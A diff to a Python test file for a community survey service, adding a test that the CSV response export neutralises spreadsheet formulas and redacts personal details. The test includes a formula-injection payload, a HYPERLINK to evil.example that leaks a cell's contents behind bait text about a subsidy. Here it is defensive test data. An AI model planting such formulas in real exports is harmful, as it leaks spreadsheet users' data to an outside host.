@@ -28,7 +28,8 @@ BODY = {"template": "property", "subject": "WY-JA", "scope_level": "community", 
 async def vote(world, sid, resident, answers=ANSWERS):
     async with world.services.db.transaction() as session:
         survey = await repo.get(session, sid)
-        return await voting.submit(session, survey, resident, answers, survey.questions_version, NOW)
+        return await voting.submit(session, survey, resident, answers, survey.questions_version, NOW,
+                                   household_key=world.services.settings.household_secret)
 
 
 async def api(world, method, path, who="admin", **kw):
@@ -119,6 +120,21 @@ async def test_questions_freeze_with_the_first_vote(console_world):
     await vote(world, sid, voter, {"q1": 4, "q2": 4, "q3": 4})
     status, body = await api(world, "post", f"/surveys/{sid}/questions", json={"questions": questions[:2]})
     assert status == 409 and "不能再修改" in body["message"]
+
+
+async def test_response_export_neutralises_formulas_and_redacts_comments(console_world):
+    world = console_world
+    sid = await new_campaign(world.services)
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点此领取补贴")'
+    await vote(world, sid, await add_resident(world.services, "HX-YYL-YJ-01"), {**ANSWERS, "q9": evil})
+    await vote(world, sid, await add_resident(world.services, "HX-YYL-YJ-01"),
+               {**ANSWERS, "q9": "我是王先生，电话13812345678"})
+    status, text = await api(world, "get", f"/surveys/{sid}/export?kind=responses")
+    assert status == 200 and text.startswith("\ufeff")
+    rows = list(__import__("csv").reader(__import__("io").StringIO(text.lstrip("\ufeff"))))
+    comments = {row[-1] for row in rows[1:]}
+    assert "'" + evil in comments and evil not in comments  # a text cell, never a formula
+    assert not any("13812345678" in c or "王先生" in c for c in comments)
 
 
 async def test_pages_charts_panel_and_exports(console_world):
